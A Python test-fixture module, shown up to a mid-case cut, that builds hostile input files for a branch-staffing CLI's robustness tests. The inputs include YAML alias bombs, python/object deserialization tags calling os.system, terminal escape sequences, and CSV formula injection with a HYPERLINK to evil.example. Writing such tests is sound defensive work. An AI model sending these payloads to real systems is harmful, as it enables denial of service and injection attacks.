"""The hostile inputs, built in code: profiles, lead files, open-workload files and options.

Every item of issue 9's list "No crash, no hang, nothing lost" is here, and more. A case is
a name (the test id), the bytes of one hostile file or one hostile option, and what the issue
requires of it where it requires something: an exit status, the lead rows the output must
keep, the branches a plan must show. The good files the hostile ones are run beside are
:data:`PROFILE`, :data:`LEADS` and :data:`WORKLOAD`.
"""

from __future__ import annotations

import codecs
import csv
import io
import json
import re
from collections.abc import Iterator, Mapping
from dataclasses import dataclass

# The good inputs ------------------------------------------------------------------------------

_TOP = {
    "company": "Anju Home",
    "headquarters": "Shanghai",
    "as_is": "decentralized",
    "busy_hour_factor": "0.12",
    "span_of_control": "8",
    "service_target": "{aht: 240, answer_within: 30, service_level: 0.8, shrinkage: 0.25}",
    "salaries": "{agent: 7000, promoter: 11000, support: 10000, manager: 16000}",
}
_FIRST_BRANCH = {
    "name": "Xuhui",
    "city": "Shanghai",
    "region": "East China",
    "projects": "[flats, villas]",
    "capacity": "2",
    "inquiries_per_month": "4500",
}
_OTHER_BRANCHES = (
    "{name: Minhang, city: Shanghai, region: East China, projects: [flats], inquiries_per_month: 3000}",
    "{name: Jianghan, city: Wuhan, region: Central China, inquiries_per_month: 1800}",
    "{name: Yuelu, city: Changsha, region: Central China, inquiries_per_month: 900}",
)
BRANCHES = 1 + len(_OTHER_BRANCHES)
"""The branches of :data:`PROFILE`."""


def yaml_profile(top: Mapping[str, str | None] = {}, branch: Mapping[str, str | None] = {}) -> str:
    """:data:`PROFILE` with raw YAML values put in (``None``: left out) at the top or in its first branch."""
    fields = {**_TOP, **top}
    first = {**_FIRST_BRANCH, **branch}
    lines = [f"{key}: {value}" for key, value in fields.items() if value is not None]
    items = [f"{key}: {value}" for key, value in first.items() if value is not None]
    lines.append("branches:")
    lines.append("  - " + items[0])
    lines.extend("    " + item for item in items[1:])
    lines.extend("  - " + other for other in _OTHER_BRANCHES)
    return "\n".join(lines) + "\n"


PROFILE = yaml_profile()
"""A good profile of four branches in two regions, sized (volumes, target and salaries)."""
LEAD_ROWS = (
    "L01,flats,Shanghai",
    "L02,villas,Shanghai",
    "L03,flats,Wuhan",
    "L04,offices,Changsha",
    "L05,flats,",
    "L06,flats,Nanjing",
    "L01,flats,Shanghai",
    ",flats,Wuhan",
    "L07,,Wuhan",
    "L08,flats,Shanghai,urgent",
    "L09,flats,Changsha",
    "L10,villas,Wuhan",
)
LEADS = "id,project,city\n" + "\n".join(LEAD_ROWS) + "\n"
"""A good lead file for :data:`PROFILE`, with the ordinary bad rows a dispatch reports."""
WORKLOAD = "branch,open\nXuhui,6\nYuelu,2\n"
"""A good open-workload file for :data:`PROFILE`."""
NO_WORKLOAD = "branch,open\n"
"""An open-workload file that fits any profile: no branch has open leads."""
ASSIGNMENTS = "lead_id,branch,project\nL01,,flats\nL02,,villas\nL03,,offices\n"
"""A good assignments file of ``orgkb tally`` that fits any profile: no lead was assigned."""
GROUPS = "groups:\n  - {name: Red, projects: [flats]}\n  - {name: Blue, projects: [villas]}\n"
"""A good groups file of ``orgkb tally``: groups of projects, which fit any profile."""
DEALS = "lead_id\nL01\nL03\n"
"""A good deals file of ``orgkb tally``: leads of :data:`ASSIGNMENTS` that became deals."""
RECEIVED_LEADS = (
    "id,project,city,received\nL01,flats,Shanghai,2026-03-02 09:00\n"
    "L02,flats,Shanghai,2026-03-02 10:00\nL03,flats,Wuhan,2026-03-03 11:00\n"
)
"""A good lead file with the times the leads came in, which follow-ups need."""
FOLLOW_UPS = "lead_id,followed_up\nL01,2026-03-02 09:30\nL02,\n"
"""A good follow-ups file for :data:`RECEIVED_LEADS`: L02 was never followed up."""


def json_profile(top: Mapping[str, str | None] = {}, branch: Mapping[str, str | None] = {}) -> str:
    """:data:`PROFILE` as JSON, with raw JSON values put in at the top or in its first branch."""
    fields: dict[str, str | None] = {
        "company": '"Anju Home"',
        "headquarters": '"Shanghai"',
        "as_is": '"decentralized"',
        "busy_hour_factor": "0.12",
        "service_target": '{"aht": 240, "answer_within": 30, "service_level": 0.8}',
        "salaries": '{"agent": 7000, "promoter": 11000, "support": 10000, "manager": 16000}',
        **top,
    }
    first: dict[str, str | None] = {
        "name": '"Xuhui"',
        "city": '"Shanghai"',
        "region": '"East China"',
        "projects": '["flats", "villas"]',
        "capacity": "2",
        "inquiries_per_hour": "40",
        **branch,
    }
    others = [
        '{"name": "Minhang", "city": "Shanghai", "region": "East China", "inquiries_per_hour": 25}',
        '{"name": "Jianghan", "city": "Wuhan", "region": "Central China", "inquiries_per_hour": 15}',
        '{"name": "Yuelu", "city": "Changsha", "region": "Central China", "inquiries_per_hour": 8}',
    ]
    head = ",\n".join(f'  "{key}": {value}' for key, value in fields.items() if value is not None)
    item = (
        "{"
        + ", ".join(f'"{key}": {value}' for key, value in first.items() if value is not None)
        + "}"
    )
    return (
        "{\n" + head + ',\n  "branches": [\n    ' + ",\n    ".join([item, *others]) + "\n  ]\n}\n"
    )


CSV_HEADER = "name,city,region,projects,capacity,inquiries_per_month"
_CSV_ROWS = (
    "Xuhui,Shanghai,East China,flats;villas,2,4500",
    "Minhang,Shanghai,East China,flats,,3000",
    "Jianghan,Wuhan,Central China,,,1800",
    "Yuelu,Changsha,Central China,,,900",
)


def csv_profile(first: str = _CSV_ROWS[0], *, header: str = CSV_HEADER, newline: str = "\n") -> str:
    """:data:`PROFILE` as a CSV table whose first row is *first*, raw."""
    return newline.join([header, first, *_CSV_ROWS[1:]]) + newline


def csv_line(*cells: str) -> str:
    """One CSV row of *cells*, quoted where CSV needs it."""
    line = io.StringIO()
    csv.writer(line, lineterminator="").writerow(cells)
    return line.getvalue()


# The cases ------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    """One hostile file, or a good file with one hostile option.

    *data* is the file's bytes, ``None`` for a path where no file is. *suffix* is the file's
    (the format follows it). *args* are added to every command run on the file. *expect* is
    the exit status the issue requires, or for some commands only, a mapping from the
    command's name; ``None`` allows 0 or 2. *rows* (lead files) is the number of physical lead
    rows an ``allocate`` output must have; *branches* (profiles), the branches a plan shows.
    *commands*, when given, are the only commands the case runs through: for a profile that
    takes seconds to refuse today, one command of each sub-command, as they all read it alike.
    *present* is text an output must hold when the run succeeds: a lead id after a stray quote,
    a name that only a right guess of the encoding reads.
    """

    name: str
    data: bytes | None
    suffix: str = ".yaml"
    args: tuple[str, ...] = ()
    expect: int | Mapping[str, int] | None = None
    rows: int | None = None
    branches: int | None = None
    directory: bool = False
    commands: tuple[str, ...] = ()
    present: tuple[str, ...] = ()

    def expected(self, command: str) -> int | None:
        """The exit status the issue requires of *command* on this case, if any."""
        if isinstance(self.expect, Mapping):
            return self.expect.get(command)
        return self.expect


@dataclass(frozen=True)
class OptionCase:
    """A command line with one hostile option value.

    *argv* may hold ``{profile}``, ``{leads}`` and ``{workload}``, which stand for the good
    files. *option* is what the error line must name, when it can name something.
    """

    name: str
    argv: tuple[str, ...]
    option: str | None
    output: str = "text"
    expect: int | None = None
    rows: int | None = None


def physical_rows(text: str) -> int:
    """The non-blank physical lines of a lead file after its header (its first non-blank line).

    A line ends at CR, LF or CRLF, whatever quotes it holds; a line of separators (``,,``)
    is not blank.
    """
    lines = [line for line in re.split(r"\r\n|\r|\n", text) if line.strip()]
    return max(len(lines) - 1, 0)


def _encode(text: str, encoding: str) -> bytes:
    boms = {"utf-16-le": codecs.BOM_UTF16_LE, "utf-16-be": codecs.BOM_UTF16_BE,
            "utf-32-le": codecs.BOM_UTF32_LE, "utf-32-be": codecs.BOM_UTF32_BE}  # fmt: skip
    return boms.get(encoding, b"") + text.encode(encoding)


_SLOW = ("recommend-json", "chart-mermaid", "compare-json", "allocate")
"""One command of each sub-command that reads a profile, for the cases that are slow to refuse."""


def _digits(count: int) -> str:
    return "9" * count


def yaml_text(value: str) -> str:
    """*value* as a YAML double-quoted scalar; every character outside printable ASCII escaped."""
    escaped = []
    for character in value:
        code = ord(character)
        if character in '"\\':
            escaped.append("\\" + character)
        elif 0x20 <= code < 0x7F:
            escaped.append(character)
        elif code <= 0xFFFF:
            escaped.append(f"\\u{code:04x}")
        else:
            escaped.append(f"\\U{code:08x}")
    return '"' + "".join(escaped) + '"'


def _utf8(text: str) -> bytes:
    return text.encode("utf-8")


# Profiles: encodings --------------------------------------------------------------------------

_CHINESE = yaml_profile(
    {"company": "安居家居", "headquarters": "上海"}, {"name": "徐汇", "city": "上海"}
)


def encoding_cases() -> Iterator[Case]:
    for text, suffix, kind in (
        (PROFILE, ".yaml", "yaml"),
        (json_profile(), ".json", "json"),
        (csv_profile(), ".csv", "csv"),
    ):
        yield Case(
            f"enc-{kind}-utf8-bom",
            codecs.BOM_UTF8 + _utf8(text),
            suffix,
            expect=0,
            branches=BRANCHES,
        )
        for encoding in ("utf-16-le", "utf-16-be"):
            yield Case(
                f"enc-{kind}-{encoding}-bom",
                _encode(text, encoding),
                suffix,
                expect=0,
                branches=BRANCHES,
            )
    yield Case("enc-yaml-utf-16-le-no-bom", PROFILE.encode("utf-16-le"))
    yield Case("enc-csv-utf-16-be-no-bom", csv_profile().encode("utf-16-be"), ".csv")
    yield Case("enc-yaml-utf-32-le-bom", _encode(PROFILE, "utf-32-le"))
    yield Case("enc-json-utf-32-be-bom", _encode(json_profile(), "utf-32-be"), ".json")
    yield Case("enc-yaml-utf-32-no-bom", PROFILE.encode("utf-32-le"))
    yield Case("enc-yaml-gb18030", _CHINESE.encode("gb18030"), expect=0, branches=BRANCHES)
    yield Case(
        "enc-csv-gb18030",
        csv_profile("徐汇,上海,华东,flats;villas,2,4500").encode("gb18030"),
        ".csv",
        expect=0,
        branches=BRANCHES,
    )
    padding = "# " + "x" * 98 + "\n"
    long_good = padding * 700  # 70 KB of comments before the profile
    yield Case(
        "enc-yaml-bad-byte-after-64k", _utf8(long_good + PROFILE) + b"# \xff\xfe bad\n", expect=2
    )
    yield Case(
        "enc-yaml-gb18030-after-64k-of-ascii",
        _utf8(long_good) + _CHINESE.encode("gb18030"),
        expect=0,
        branches=BRANCHES,
    )
    yield Case(
        "enc-yaml-utf8-then-gb18030",
        _utf8(PROFILE) + "# 说明\n".encode("gb18030") + "# 说明\n".encode(),
    )
    rows = "\n".join(f"B{index},Shanghai,East China,,,10" for index in range(1500))
    yield Case(
        "enc-csv-bad-byte-after-64k",
        _utf8(csv_profile() + rows + "\n") + b"Bad\xff,Wuhan,,,,\n",
        ".csv",
        expect=2,
    )
    yield Case("enc-yaml-lone-continuation-byte", _utf8(PROFILE).replace(b"Xuhui", b"Xu\x80hui"))
    yield Case("enc-yaml-overlong-utf8", _utf8(PROFILE).replace(b"Xuhui", b"Xu\xc0\xafhui"))
    yield Case(
        "enc-yaml-utf8-encoded-surrogate", _utf8(PROFILE).replace(b"Xuhui", b"Xu\xed\xb3\xbfhui")
    )
    yield Case("enc-binary-png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(range(256)), expect=2)
    yield Case("enc-binary-no-nul", bytes(range(1, 256)) * 4, expect=2)
    yield Case(
        "enc-binary-nul-mid-yaml", _utf8(PROFILE).replace(b"Minhang", b"Min\0hang"), expect=2
    )
    yield Case("enc-empty", b"", expect=2)
    yield Case("enc-empty-csv", b"", ".csv", expect=2)
    yield Case("enc-whitespace-only", b" \t\n\r\n  \n", expect=2)
    yield Case("enc-bom-only", codecs.BOM_UTF8, expect=2)
    yield Case("enc-no-suffix-json", _utf8(json_profile()), "", expect=0, branches=BRANCHES)
    yield Case("enc-no-suffix-csv", _utf8(csv_profile()), "", expect=0, branches=BRANCHES)
    yield Case("enc-no-suffix-one-line", b"just words", "")
    yield Case("enc-missing-file", None, expect=2)
    yield Case("enc-directory", None, directory=True, expect=2)


# Profiles: YAML -------------------------------------------------------------------------------

_CONTROLS = {
    "esc": "\x1b", "vt": "\x0b", "bel": "\x07", "del": "\x7f", "c1-csi": "\x9b", "c1-nel": "\x85",
    "u+fffe": "\ufffe", "u+ffff": "\uffff", "backspace": "\x08", "form-feed": "\x0c",
}  # fmt: skip


def _billion_laughs(levels: int = 9, width: int = 9) -> str:
    lines = ['lol0: &lol0 "lol"']
    lines += [
        f"lol{level}: &lol{level} [" + ", ".join([f"*lol{level - 1}"] * width) + "]"
        for level in range(1, levels)
    ]
    return "\n".join(lines) + f"\ncompany: *lol{levels - 1}\nbranches: []\n"


def _nested_flow(depth: int) -> str:
    return "[" * depth + "]" * depth


def _nested_block(depth: int) -> str:
    return (
        "".join("  " * level + f"k{level}:\n" for level in range(depth)) + "  " * depth + "v: 1\n"
    )


def yaml_cases() -> Iterator[Case]:
    for name, control in _CONTROLS.items():
        raw = PROFILE.replace("Minhang", f"Min{control}hang", 1)
        yield Case(f"yaml-raw-{name}-in-name", _utf8(raw))
        if name in ("esc", "c1-csi", "u+fffe"):
            yield Case(f"yaml-raw-{name}-in-comment", _utf8(f"# note {control}\n" + PROFILE))
    yield Case(
        "yaml-raw-esc-in-key", _utf8(PROFILE.replace("headquarters", "head\x1b[31mquarters"))
    )
    yield Case("yaml-billion-laughs", _utf8(_billion_laughs()), expect=2, commands=_SLOW)
    yield Case(
        "yaml-alias-bomb-wide",
        _utf8(_billion_laughs(levels=4, width=400)),
        expect=2,
        commands=_SLOW,
    )
    yield Case(
        "yaml-alias-bomb-in-projects",
        _utf8(
            _billion_laughs(levels=8, width=10).replace(
                "company: *lol7\nbranches: []",
                "company: A\nbranches:\n  - {name: B, city: C, projects: *lol7}",
            )
        ),
        expect=2,
        commands=_SLOW,
    )
    yield Case("yaml-recursive-alias", _utf8("company: &a [*a]\nbranches: []\n"), expect=2)
    yield Case(
        "yaml-recursive-mapping",
        _utf8("company: A\nbranches: &b\n  - name: B\n    city: C\n    projects: *b\n"),
        expect=2,
    )
    yield Case(
        "yaml-anchors-reused-fairly",
        _utf8(
            PROFILE.replace("[flats, villas]", "&p [flats, villas]")
            + "  - {name: Pudong, city: Shanghai, projects: *p}\n"
        ),
    )
    for depth in (500, 5000):
        yield Case(
            f"yaml-nested-flow-{depth}",
            _utf8(f"company: A\nbranches: {_nested_flow(depth)}\n"),
            expect=2,
            commands=_SLOW,
        )
    yield Case("yaml-nested-mapping-500", _utf8("{a: " * 500 + "1" + "}" * 500 + "\n"), expect=2)
    yield Case("yaml-nested-block-500", _utf8(_nested_block(500)), expect=2)
    yield Case(
        "yaml-merge-key",
        _utf8(
            "company: A\nbase: &base {city: Wuhan, region: Hubei}\nbranches:\n  - {<<: *base, name: B}\n"
        ),
    )
    yield Case(
        "yaml-merge-key-in-branch-only",
        _utf8("company: A\nbranches:\n  - &b {name: B, city: Wuhan}\n  - {<<: *b, name: C}\n"),
    )
    for tag in ("!!python/object:os.system", "!!python/object/apply:os.system [echo]", "!!python/name:os.system",
                "!!binary aGVsbG8=", "!!set {a, b}", "!!timestamp 2024-01-01", "!!float nan"):  # fmt: skip
        label = re.sub(r"[^a-z]+", "-", tag.split(" ")[0].lower()).strip("-")
        yield Case(f"yaml-tag-{label}", _utf8(yaml_profile(branch={"name": tag})), expect=2)
    yield Case("yaml-date-as-name", _utf8(yaml_profile(branch={"name": "2024-01-01"})), expect=2)
    yield Case("yaml-sexagesimal-capacity", _utf8(yaml_profile(branch={"capacity": "190:20:30"})))
    yield Case("yaml-duplicate-top-key", _utf8(PROFILE + "company: Again\n"), expect=2)
    yield Case(
        "yaml-duplicate-branch-key",
        _utf8(yaml_profile(branch={"city": "Shanghai\n    city: Wuhan"})),
        expect=2,
    )
    for label, key in (("int", "1"), ("null", "null"), ("list", "[a, b]"), ("mapping", "{a: b}")):
        yield Case(
            f"yaml-key-{label}",
            _utf8(PROFILE.replace("headquarters:", f"? {key}\n: x\nheadquarters:")),
            expect=2,
        )
    yield Case(
        "yaml-key-unhashable-in-branch",
        _utf8(yaml_profile(branch={"name": "B\n    ? [x]\n    : y"})),
        expect=2,
    )
    yield Case(
        "yaml-long-unknown-key", _utf8(PROFILE.replace("headquarters", "h" * 100_000)), expect=2
    )

    # Names a hundred thousand characters long, which an error quotes only the start of.
    long = "n" * 100_000
    yield Case("yaml-long-undefined-alias", _utf8(yaml_profile({"company": f"*{long}"})), expect=2)
    yield Case(
        "yaml-long-anchor-twice",
        _utf8(yaml_profile({"company": f"&{long} A", "headquarters": f"&{long} B"})),
        expect=2,
    )
    yield Case(
        "yaml-long-name-opened-after-as-of",
        _utf8(yaml_profile({"as_of": "2025-01-01"}, {"name": long, "opened": "2026-01-01"})),
        expect={"support": 2, "support-json": 2},
    )
    yield Case(
        "yaml-long-name-opened-without-as-of",
        _utf8(yaml_profile(branch={"name": long, "opened": "2026-01-01"})),
        expect={"support": 2, "support-json": 2},
    )
    yield Case(
        "yaml-long-name-without-volume",
        _utf8(yaml_profile(branch={"name": long, "inquiries_per_month": None})),
        expect={"compare": 2, "compare-json": 2},
    )
    yield Case("yaml-multi-document", _utf8(PROFILE + "---\n" + PROFILE), expect=2)
    yield Case("yaml-comments-only", _utf8("# nothing here\n# at all\n"), expect=2)
    yield Case("yaml-top-list", _utf8("- company: A\n"), expect=2)
    yield Case("yaml-top-null", _utf8("~\n"), expect=2)
    yield Case(
        "yaml-tab-indent",
        _utf8(PROFILE.replace("    city: Shanghai", "\tcity: Shanghai")),
        expect=2,
    )
    yield Case(
        "yaml-unclosed-flow", _utf8(PROFILE.replace("[flats, villas]", "[flats, villas")), expect=2
    )
    yield Case(
        "yaml-directive", _utf8("%YAML 1.1\n%TAG !e! tag:example.com,2000:\n---\n" + PROFILE)
    )
    yield Case("yaml-branches-a-string", _utf8("company: A\nbranches: everything\n"), expect=2)
    yield Case("yaml-branch-a-list", _utf8("company: A\nbranches:\n  - [B, C]\n"), expect=2)
    yield Case("yaml-name-null", _utf8(yaml_profile(branch={"name": "~"})), expect=2)
    yield Case(
        "yaml-name-hex-int",
        _utf8(yaml_profile(branch={"name": "0x1F"})),
        expect=0,
        branches=BRANCHES,
    )
    yield Case("yaml-name-5000-digits", _utf8(yaml_profile(branch={"name": _digits(5000)})))
    yield Case(
        "yaml-projects-nested",
        _utf8(yaml_profile(branch={"projects": "[[a, [b]], {c: d}]"})),
        expect=2,
    )
    yield Case(
        "yaml-projects-thousands",
        _utf8(
            yaml_profile(branch={"projects": "[" + ", ".join(f"p{i}" for i in range(5000)) + "]"})
        ),
        expect=0,
        branches=BRANCHES,
        commands=_SLOW,
    )
    yield Case(
        "yaml-hundred-branches-one-line",
        _utf8(
            "company: A\nbranches: ["
            + ", ".join(f"{{name: B{i}, city: C{i % 7}, region: R{i % 3}}}" for i in range(100))
            + "]\n"
        ),
        expect=0,
        branches=100,
    )
    yield Case(
        "yaml-name-megabyte", _utf8(yaml_profile(branch={"name": "x" * 1_000_000})), commands=_SLOW
    )


# Profiles: JSON -------------------------------------------------------------------------------


def json_cases() -> Iterator[Case]:
    for depth in (1000, 100_000):
        yield Case(
            f"json-nested-lists-{depth}",
            _utf8('{"company": "A", "branches": ' + "[" * depth + "]" * depth + "}"),
            ".json",
            expect=2,
        )
    yield Case(
        "json-nested-objects-1000", _utf8('{"a": ' * 1000 + "1" + "}" * 1000), ".json", expect=2
    )
    yield Case(
        "json-nested-in-name-1000",
        _utf8(json_profile(branch={"name": "[" * 1000 + "]" * 1000})),
        ".json",
        expect=2,
    )
    yield Case(
        "json-duplicate-key",
        _utf8(json_profile().replace('"headquarters"', '"company": "B", "headquarters"')),
        ".json",
        expect=2,
    )
    yield Case(
        "json-duplicate-key-in-branch",
        _utf8(json_profile(branch={"city": '"Shanghai", "city": "Wuhan"'})),
        ".json",
        expect=2,
    )
    yield Case("json-trailing-garbage", _utf8(json_profile() + "garbage"), ".json", expect=2)
    yield Case(
        "json-trailing-comma",
        _utf8(json_profile().replace("\n  ]\n}", ",\n  ]\n}")),
        ".json",
        expect=2,
    )
    yield Case("json-comment", _utf8("// profile\n" + json_profile()), ".json", expect=2)
    yield Case("json-unterminated-string", _utf8('{"company": "A'), ".json", expect=2)
    for top in ("[]", '"Anju Home"', "null", "42"):
        label = re.sub(r"[^a-z0-9]+", "-", top.lower()).strip("-") or "list"
        yield Case(f"json-top-{label}", _utf8(top), ".json", expect=2)
    yield Case(
        "json-lone-surrogate-escape-in-company",
        _utf8(json_profile({"company": '"Anju \\udcff"'})),
        ".json",
    )
    yield Case(
        "json-high-surrogate-escape-in-city",
        _utf8(json_profile(branch={"city": '"\\ud83d"'})),
        ".json",
    )
    yield Case(
        "json-nul-escape-in-name", _utf8(json_profile(branch={"name": '"Xu\\u0000hui"'})), ".json"
    )
    yield Case(
        "json-esc-escape-in-company",
        _utf8(json_profile({"company": '"\\u001b]0;owned\\u0007\\u001b[2J"'})),
        ".json",
    )
    yield Case(
        "json-raw-control-in-string",
        _utf8(json_profile({"company": '"Anju\x1bHome"'})),
        ".json",
        expect=2,
    )
    yield Case(
        "json-invalid-escape", _utf8(json_profile({"company": '"Anju\\qHome"'})), ".json", expect=2
    )
    yield Case("json-key-megabyte", _utf8(json_profile({"k" * 1_000_000: "1"})), ".json", expect=2)


# Profiles: CSV --------------------------------------------------------------------------------


def csv_cases() -> Iterator[Case]:
    yield Case(
        "csv-quoted-newline-in-name",
        _utf8(csv_profile('"Xu\nhui",Shanghai,East China,flats,2,4500')),
        ".csv",
        branches=BRANCHES,
    )
    yield Case(
        "csv-quoted-newline-in-projects",
        _utf8(csv_profile('Xuhui,Shanghai,East China,"flats;\nvillas",2,4500')),
        ".csv",
        branches=BRANCHES,
    )
    for label, separator in (
        ("u+2028", "\u2028"),
        ("u+2029", "\u2029"),
        ("u+0085", "\x85"),
        ("vt", "\x0b"),
        ("fs", "\x1c"),
    ):
        yield Case(
            f"csv-{label}-in-name",
            _utf8(csv_profile(f"Xu{separator}hui,Shanghai,East China,flats,2,4500")),
            ".csv",
            branches=BRANCHES,
        )
    yield Case(
        "csv-u+2028-in-header",
        _utf8(csv_profile(header=CSV_HEADER.replace("region", "reg\u2028ion"))),
        ".csv",
        expect=2,
    )
    yield Case(
        "csv-stray-quote-opening",
        _utf8(csv_profile('"Xuhui,Shanghai,East China,flats,2,4500')),
        ".csv",
        expect=2,
    )
    yield Case(
        "csv-stray-quote-inside",
        _utf8(csv_profile('Xu"hui,Shanghai,East China,flats,2,4500')),
        ".csv",
    )
    yield Case(
        "csv-quote-then-text",
        _utf8(csv_profile('"Xu"hui,Shanghai,East China,flats,2,4500')),
        ".csv",
        expect=2,
    )
    yield Case(
        "csv-rows-of-separators",
        _utf8(csv_profile() + ",,,,,\n,,\n"),
        ".csv",
        expect=0,
        branches=BRANCHES,
    )
    yield Case("csv-only-separators", _utf8(",,,,,\n,,,,,\n"), ".csv", expect=2)
    yield Case(
        "csv-semicolon-header",
        _utf8(csv_profile(header=CSV_HEADER.replace(",", ";"))),
        ".csv",
        expect=2,
    )
    yield Case(
        "csv-tab-separated-as-csv",
        _utf8(csv_profile().replace(",", "\t")),
        ".csv",
        expect=0,
        branches=BRANCHES,
    )
    yield Case(
        "csv-tab-header-comma-rows",
        _utf8(csv_profile(header=CSV_HEADER.replace(",", "\t"))),
        ".csv",
        expect=2,
    )
    yield Case(
        "csv-comma-separated-as-tsv", _utf8(csv_profile()), ".tsv", expect=0, branches=BRANCHES
    )
    yield Case(
        "csv-extra-values",
        _utf8(csv_profile("Xuhui,Shanghai,East China,flats,2,4500,extra")),
        ".csv",
        expect=2,
    )
    yield Case(
        "csv-bom-crlf",
        codecs.BOM_UTF8 + _utf8(csv_profile(newline="\r\n")),
        ".csv",
        expect=0,
        branches=BRANCHES,
    )
    yield Case("csv-cr-only", _utf8(csv_profile(newline="\r")), ".csv", expect=0, branches=BRANCHES)
    yield Case(
        "csv-nul-in-cell",
        _utf8(csv_profile("Xu\0hui,Shanghai,East China,flats,2,4500")),
        ".csv",
        expect=2,
    )
    yield Case("csv-header-only", _utf8(CSV_HEADER + "\n"), ".csv")
    yield Case("csv-empty-header-cell", _utf8(csv_profile(header=CSV_HEADER + ",")), ".csv")
    yield Case(
        "csv-duplicate-column",
        _utf8(csv_profile(header=CSV_HEADER.replace("region", "city"))),
        ".csv",
        expect=2,
    )
    yield Case("csv-no-header", _utf8("\n".join(_CSV_ROWS) + "\n"), ".csv", expect=2)
    yield Case(
        "csv-quoted-header",
        _utf8(csv_profile(header=",".join(f'"{c}"' for c in CSV_HEADER.split(",")))),
        ".csv",
        expect=0,
        branches=BRANCHES,
    )
    yield Case(
        "csv-cell-over-field-limit",
        _utf8(csv_profile('"' + "x" * 200_000 + '",Shanghai,,,,')),
        ".csv",
    )
    yield Case(
        "csv-hundred-thousand-columns",
        _utf8(csv_profile(",".join(["x"] * 100_000))),
        ".csv",
        expect=2,
    )
    yield Case(
        "csv-formula-names",
        _utf8(
            "\n".join(
                [
                    CSV_HEADER,
                    csv_line('=HYPERLINK("http://evil.example","x")', "Shanghai"),
                    "+1,Shanghai",
                    "-1,Wuhan",
                    "@SUM(A1),Changsha",
                ]
            )
            + "\n"
        ),
        ".csv",
        expect=0,
        branches=4,
    )
    yield Case("csv-duplicate-names", _utf8(csv_profile() + "Xuhui,Wuhan,,,,\n"), ".csv", expect=2)


# Profiles: numbers ----------------------------------------------------------------------------

_HUGE = {"310-digits": _digits(310), "4300-digits": _digits(4300), "5000-digits": _digits(5000)}
_YAML_NUMBERS = {
    **_HUGE,
    "1e308": "1.0e+308", "1e400": "1.0e+400", "inf": ".inf", "minus-inf": "-.inf", "nan": ".nan",
    "true": "true", "yes": "yes",
}  # fmt: skip


def number_cases() -> Iterator[Case]:
    for label, value in _YAML_NUMBERS.items():
        yield Case(
            f"num-yaml-capacity-{label}", _utf8(yaml_profile(branch={"capacity": value})), expect=2
        )
    for label in ("310-digits", "4300-digits", "5000-digits", "1e308", "nan"):
        yield Case(
            f"num-yaml-inquiries-per-month-{label}",
            _utf8(yaml_profile(branch={"inquiries_per_month": _YAML_NUMBERS[label]})),
            expect=2,
        )
    for label in ("5000-digits", "minus-inf", "true"):
        value = _YAML_NUMBERS[label]
        yield Case(
            f"num-yaml-span-of-control-{label}",
            _utf8(yaml_profile({"span_of_control": value})),
            expect=2,
        )
        yield Case(
            f"num-yaml-salary-{label}",
            _utf8(
                yaml_profile(
                    {
                        "salaries": f"{{agent: {value}, promoter: 11000, support: 10000, manager: 16000}}"
                    }
                )
            ),
            expect=2,
        )
    yield Case(
        "num-yaml-busy-hour-factor-310-digits",
        _utf8(yaml_profile({"busy_hour_factor": _digits(310)})),
        expect=2,
    )
    yield Case(
        "num-yaml-aht-5000-digits",
        _utf8(yaml_profile({"service_target": f"{{aht: {_digits(5000)}}}"})),
        expect=2,
    )
    yield Case(
        "num-yaml-max-occupancy-nan",
        _utf8(yaml_profile({"service_target": "{max_occupancy: .nan}"})),
        expect=2,
    )
    for label, value in (("310-digits", _digits(310)), ("5000-digits", _digits(5000)), ("1e400", "1e400"), ("minus-1e400", "-1e400"),
                         ("infinity", "Infinity"), ("minus-infinity", "-Infinity"), ("nan", "NaN"), ("true", "true")):  # fmt: skip
        yield Case(
            f"num-json-capacity-{label}",
            _utf8(json_profile(branch={"capacity": value})),
            ".json",
            expect=2,
        )
    for label, value in (
        ("1e308", "1e308"),
        ("minus-infinity", "-Infinity"),
        ("4300-digits", _digits(4300)),
    ):
        yield Case(
            f"num-json-salary-{label}",
            _utf8(
                json_profile(
                    {"salaries": f'{{"agent": 1, "promoter": 1, "support": 1, "manager": {value}}}'}
                )
            ),
            ".json",
            expect=2,
        )
    yield Case(
        "num-json-inquiries-per-hour-minus-infinity",
        _utf8(json_profile(branch={"inquiries_per_hour": "-Infinity"})),
        ".json",
        expect=2,
    )
    yield Case(
        "num-json-span-of-control-huge-float-text",
        _utf8(json_profile({"span_of_control": '"1e400"'})),
        ".json",
        expect=2,
    )
    for label, value in (
        ("1e400", "1e400"),
        ("nan", "nan"),
        ("minus-inf", "-inf"),
        ("5000-digits", _digits(5000)),
        ("minus-zero", "-0"),
    ):
        yield Case(
            f"num-csv-capacity-{label}",
            _utf8(csv_profile(f"Xuhui,Shanghai,East China,flats,{value},4500")),
            ".csv",
            expect=2,
        )
    yield Case(
        "num-csv-capacity-5e-324",
        _utf8(csv_profile("Xuhui,Shanghai,East China,flats,5e-324,4500")),
        ".csv",
    )
    yield Case(
        "num-csv-inquiries-1e308",
        _utf8(csv_profile("Xuhui,Shanghai,East China,flats,2,1e308")),
        ".csv",
        expect=2,
    )
    # Service targets whose staffing would run away: a cap on occupancy so low, or a target so
    # near 1, that the agents needed are unbounded.
    sizing = {"compare": 2, "compare-json": 2}
    for label, value in (("1e-8", "1.0e-8"), ("1e-300", "1.0e-300"), ("5e-324", "5.0e-324")):
        yield Case(
            f"num-max-occupancy-{label}",
            _utf8(yaml_profile({"service_target": f"{{max_occupancy: {value}}}"})),
            expect=sizing,
        )
    yield Case(
        "num-service-level-nearly-1",
        _utf8(yaml_profile({"service_target": "{service_level: 0.9999999999999999}"})),
    )
    yield Case(
        "num-shrinkage-nearly-1",
        _utf8(yaml_profile({"service_target": "{shrinkage: 0.9999999999999999}"})),
    )
    yield Case("num-aht-1e-300", _utf8(yaml_profile({"service_target": "{aht: 1.0e-300}"})))
    yield Case(
        "num-aht-1e11",
        _utf8(yaml_profile({"service_target": "{aht: 100000000000}"})),
        expect=sizing,
    )
    yield Case(
        "num-answer-within-1e12",
        _utf8(yaml_profile({"service_target": "{answer_within: 1000000000000}"})),
    )
    yield Case("num-busy-hour-factor-1e-300", _utf8(yaml_profile({"busy_hour_factor": "1.0e-300"})))
    yield Case(
        "num-inquiries-1e12",
        _utf8(yaml_profile(branch={"inquiries_per_month": "1000000000000"})),
        expect=sizing,
    )
    yield Case(
        "num-inquiries-per-hour-a-million",
